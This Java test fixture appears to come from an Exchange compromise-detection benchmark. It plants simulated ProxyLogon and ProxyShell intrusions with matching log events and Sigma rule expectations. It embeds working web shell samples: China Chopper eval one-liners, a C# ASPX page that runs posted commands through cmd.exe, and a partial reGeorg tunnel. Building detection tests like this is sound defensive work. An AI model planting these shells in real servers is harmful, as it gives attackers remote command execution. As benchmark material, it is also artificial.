package org.exhunt.bench.hunt;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import org.exhunt.testkit.evtx.EventSamples;
import org.exhunt.testkit.evtx.EvtxEvent;
import org.exhunt.testkit.logs.PlantedEvent;

/**
 * The intrusions planted in the benchmark's server image, and what a scan must say about them: a server left on
 * Exchange 2016 CU19 without security updates, hit by ProxyLogon on 2021-03-03 (HAFNIUM's wave: the SSRF, the OAB
 * virtual directory rewritten to drop a China Chopper, a second Chopper in OWA's auth folder) and by ProxyShell on
 * 2021-08-13 (the autodiscover SSRF, the Mailbox Import Export role, a mailbox exported as a .aspx web shell, LSASS
 * dumped into the web root), plus two web shells no log explains (a command shell and a reGeorg tunnel). The steps
 * lie in the logs that still hold their day: IIS keeps everything, the Exchange logs and Security/Sysmon only their
 * last 30 days, so the March steps are in IIS and the Application and MSExchange Management event logs only.
 */
final class Intrusion {

    static final String INSTALL = "Program Files/Microsoft/Exchange Server/V15/";
    static final String BACKEND = "EX01.contoso.local";

    static final String PROXYLOGON_IP = "103.77.192.219";      // CISA AA21-062A, in the bundled attacker list
    static final Instant PROXYLOGON = Instant.parse("2021-03-03T06:49:43Z");
    static final String PROXYSHELL_IP = "203.0.113.200";
    static final Instant PROXYSHELL = Instant.parse("2021-08-13T03:12:09Z");

    /** A web shell (or dump) left on disk: where, its content, its time, and what a scan must report about it. */
    record Shell(String path, byte[] content, long size, Instant modified, String ruleId, String chain) {}

    private static final String OAB_SHELL = "inetpub/wwwroot/aspnet_client/system_web/Xmfa8Kd3.aspx";
    private static final String OWA_SHELL = INSTALL + "FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx";
    private static final String PST_SHELL = "inetpub/wwwroot/aspnet_client/x4mfa.aspx";   // EventSamples' export path
    private static final String CHOPPER = "<script language=\"JScript\" runat=\"server\">"
            + "function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";

    private Intrusion() {}

    /** The steps the web and Exchange logs show, each written by the logs that record it. */
    static List<PlantedEvent> logSteps() {
        return List.of(
                PlantedEvent.ProxyLogonSsrf.probe(PROXYLOGON, PROXYLOGON_IP, BACKEND),
                new PlantedEvent.OabWebShellWrite(PROXYLOGON.plusSeconds(70), PROXYLOGON_IP, BACKEND),
                new PlantedEvent.OabDownloadFailed(PROXYLOGON.plusSeconds(95), "\\\\127.0.0.1\\c$\\" + OAB_SHELL.replace('/', '\\')),
                new PlantedEvent.WebShellRequest(PROXYLOGON.plusSeconds(300), PROXYLOGON_IP, url(OAB_SHELL)),
                new PlantedEvent.WebShellRequest(PROXYLOGON.plusSeconds(900), PROXYLOGON_IP, "/owa/auth/RedirSuiteServerProxy.aspx"),
                new PlantedEvent.ProxyShell(PROXYSHELL, PROXYSHELL_IP, "administrator@contoso.local", "mapi/nspi/"),
                new PlantedEvent.ProxyShell(PROXYSHELL.plusSeconds(20), PROXYSHELL_IP, "administrator@contoso.local", "powershell/"),
                new PlantedEvent.WebShellRequest(PROXYSHELL.plusSeconds(400), PROXYSHELL_IP, url(PST_SHELL)));
    }

    /** The steps the Windows event logs show, by log file name. */
    static List<EvtxEvent> events(String log) {
        return switch (log) {
            case EventLogs.APPLICATION -> List.of(EventSamples.unifiedMessagingInvalidCast(PROXYLOGON.minusSeconds(40)));
            case EventLogs.MANAGEMENT -> List.of(
                    EventSamples.oabVirtualDirectoryChopper(PROXYLOGON.plusSeconds(70)),
                    EventSamples.mailboxImportExportRoleAssignment(PROXYSHELL.plusSeconds(60)),
                    EventSamples.mailboxExportToWebRoot(PROXYSHELL.plusSeconds(120)));
            case EventLogs.SYSMON -> List.of(EventSamples.sysmonW3wpStartsCmd(PROXYSHELL.plusSeconds(420),
                    "cmd /c \"cd /d C:\\inetpub\\wwwroot\\aspnet_client&whoami /all\""));
            case EventLogs.SECURITY -> List.of(EventSamples.securityLsassDump(PROXYSHELL.plusSeconds(600)));
            default -> List.of();
        };
    }

    /** The files the intrusions left, with the rule each must be found by and the chain it must be linked to (or null). */
    static List<Shell> shells() {
        SplittableRandom r = new SplittableRandom(2021);
        List<Shell> shells = new ArrayList<>();
        shells.add(text(OAB_SHELL, oabSettings(), PROXYLOGON.plusSeconds(95), "EXHUNT_Chopper_In_OAB_VirtualDirectory", "ProxyLogon"));
        shells.add(text(OWA_SHELL, "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>",
                PROXYLOGON.plusSeconds(600), "EXHUNT_Chopper_JScript_Eval", "ProxyLogon"));
        shells.add(new Shell(PST_SHELL, pst(r), 0, PROXYSHELL.plusSeconds(300), "EXHUNT_PST_Export_Shell", "ProxyShell"));
        // comsvcs.dll MiniDump of LSASS into the web root: a header, then (sparse) memory
        byte[] minidump = "MDMP\u0093\u00a7\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1);
        shells.add(new Shell("inetpub/wwwroot/aspnet_client/lsass.dmp", minidump,
                48L << 20, PROXYSHELL.plusSeconds(610), "exhunt.file.lsass-dump", null));
        shells.add(text(INSTALL + "ClientAccess/ecp/Reporting/DailyReport.aspx", commandShell(),
                Instant.parse("2021-05-10T22:41:03Z"), "EXHUNT_ASPX_Command_Shell", null));
        shells.add(text("inetpub/wwwroot/aspnet_client/system_web/discover.aspx", tunnel(),
                Instant.parse("2021-06-02T01:15:40Z"), "EXHUNT_reGeorg_Tunnel_ASPX", null));
        return shells;
    }

    /**
     * Sigma rules (by id) the planted log steps must fire, each with the stage its rule file states (its
     * {@code exhunt.stage.*} tag): read from the rule files, not from a scan.
     */
    static final Map<String, String> SIGMA_RULES = sigmaRules(
            "be8b9447-91d5-4914-8353-ff842214dc55", "attempt",             // POST to /ecp/y.js (ProxyLogon SSRF, IIS)
            "5d503941-1511-4586-9961-4e39bc6712a9", "context",             // python-requests / antSword posting to /ecp, /owa, /aspnet_client
            "58ce0575-db1d-4ac1-8277-dcfdffd92c2f", "post-exploitation",   // request to a script in aspnet_client
            "25e34b8b-6e01-4d1d-aaf3-66fced361713", "success",             // ProxyShell autodiscover SSRF answered
            "23ceb345-ac41-4044-8dc1-7eed5eaf1c07", "attempt",             // UM InvalidCastException (CVE-2021-26857)
            "4b3fc41b-3b50-49dc-805c-faeb1ccb93ca", "success",             // Set-OabVirtualDirectory with a script (CVE-2021-27065)
            "eb33d760-b6c7-485e-8e10-a6b70490065c", "success",             // Mailbox Import Export role assigned
            "fd9a3c9d-3fb4-4d67-a46b-fb9ba3632f5d", "success",             // mailbox exported to a .aspx path (CVE-2021-31207)
            "aa7b810b-bc80-4cb2-a99f-60768a0d5511", "post-exploitation",   // w3wp starting cmd (Sysmon)
            "0b4f4616-3c43-483e-9882-36b7a049dd6e", "post-exploitation");  // LSASS dumped through comsvcs.dll (Security 4688)

    private static Map<String, String> sigmaRules(String... idAndStage) {
        Map<String, String> rules = new LinkedHashMap<>();
        for (int i = 0; i < idAndStage.length; i += 2) rules.put(idAndStage[i], idAndStage[i + 1]);
        return Collections.unmodifiableMap(rules);
    }

    /** The stage of everything a scan must report about a planted file, and of its use: a file left behind. */
    static final String SHELL_STAGE = "post-exploitation";

    /** The verdict rows the intrusions decide; every other row must show no attempt and no compromise. */
    static final List<String> COMPROMISED_ROWS = List.of("ProxyLogon", "ProxyShell", "Post-exploitation");

    static String url(String drivePath) {
        return drivePath.substring("inetpub/wwwroot".length());
    }

    /**
     * The first planted request to a planted file, or null when the intrusions never request it: where a scan must
     * report the file's use ({@code exhunt.web-shell-requested}). Files are served from the web root and from the
     * front end's {@code FrontEnd/HttpProxy} folder.
     */
    static PlantedEvent.WebShellRequest firstRequest(Shell shell) {
        int proxy = shell.path().indexOf("FrontEnd/HttpProxy/");
        String served = shell.path().startsWith("inetpub/wwwroot/") ? url(shell.path())
                : proxy < 0 ? null : shell.path().substring(proxy + "FrontEnd/HttpProxy".length());
        return logSteps().stream().filter(e -> e instanceof PlantedEvent.WebShellRequest)
                .map(e -> (PlantedEvent.WebShellRequest) e)
                .filter(r -> r.path().equalsIgnoreCase(served))
                .min(java.util.Comparator.comparing(PlantedEvent.WebShellRequest::at)).orElse(null);
    }

    private static Shell text(String path, String content, Instant modified, String ruleId, String chain) {
        return new Shell(path, content.getBytes(StandardCharsets.UTF_8), 0, modified, ruleId, chain);
    }

    /** What Exchange writes for the OAB virtual directory after the attacker's ResetOABVirtualDirectory. */
    private static String oabSettings() {
        return String.join("\r\n",
                "RunspaceId                            : 5d6a8e3c-0f2b-4a51-9c71-b8f0e4d2a6c9",
                "PollInterval                          : 480",
                "OfflineAddressBooks                   : ",
                "RequireSSL                            : False",
                "BasicAuthentication                   : False",
                "WindowsAuthentication                 : True",
                "OAuthAuthentication                   : True",
                "MetabasePath                          : IIS://" + BACKEND + "/W3SVC/1/ROOT/OAB",
                "Path                                  : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB",
                "ExtendedProtectionTokenChecking       : None",
                "InternalAuthenticationMethods         : {WindowsIntegrated}",
                "ExternalAuthenticationMethods         : {WindowsIntegrated}",
                "InternalUrl                           : https://ex01.contoso.local/OAB",
                "ExternalUrl                           : http://f/" + CHOPPER,
                "Server                                : EX01",
                "Name                                  : OAB (Default Web Site)", "");
    }

    /** A mailbox exported as PST (starts with !BDN) whose draft carried a page: encoded bytes around the script. */
    private static byte[] pst(SplittableRandom r) {
        byte[] head = "!BDN".getBytes(StandardCharsets.US_ASCII);
        byte[] script = ("<%@ Page Language=\"Jscript\"%>" + CHOPPER).getBytes(StandardCharsets.US_ASCII);
        byte[] out = new byte[271_360];
        for (int i = 0; i < out.length; i++) out[i] = (byte) r.nextInt(256);
        System.arraycopy(head, 0, out, 0, head.length);
        System.arraycopy(script, 0, out, 0x2A00, script.length);
        return out;
    }

    private static String commandShell() {
        return "<%@ Page Language=\"C#\" %>\r\n<%@ Import Namespace=\"System.Diagnostics\" %>\r\n"
                + "<script runat=\"server\">\r\nvoid Page_Load(object sender, EventArgs e) {\r\n"
                + "  var psi = new ProcessStartInfo(\"cmd.exe\");\r\n  psi.Arguments = \"/c \" + Request.Form[\"c\"];\r\n"
                + "  psi.RedirectStandardOutput = true; psi.UseShellExecute = false;\r\n"
                + "  Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());\r\n}\r\n</script>\r\n";
    }

    /** The shape of reGeorg's ASP.NET tunnel (headers and commands), without its socket code. */
    private static String tunnel() {
        return "<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\r\n<%@ Import Namespace=\"System.Net.Sockets\" %>\r\n"
                + "<%\r\n  String cmd = Request.Headers.Get(\"X-CMD\");\r\n  if (cmd == \"CONNECT\") {\r\n"
                + "    String target = Request.Headers.Get(\"X-TARGET\"); int port = int.Parse(Request.Headers.Get(\"X-PORT\"));\r\n"
                + "    Socket sock = null; Session.Add(\"socket\", sock); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"DISCONNECT\") { Session.Abandon(); Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"FORWARD\") { Response.AddHeader(\"X-STATUS\", \"OK\");\r\n"
                + "  } else if (cmd == \"READ\") { Response.AddHeader(\"X-STATUS\", \"OK\"); }\r\n%>\r\n";
    }
}
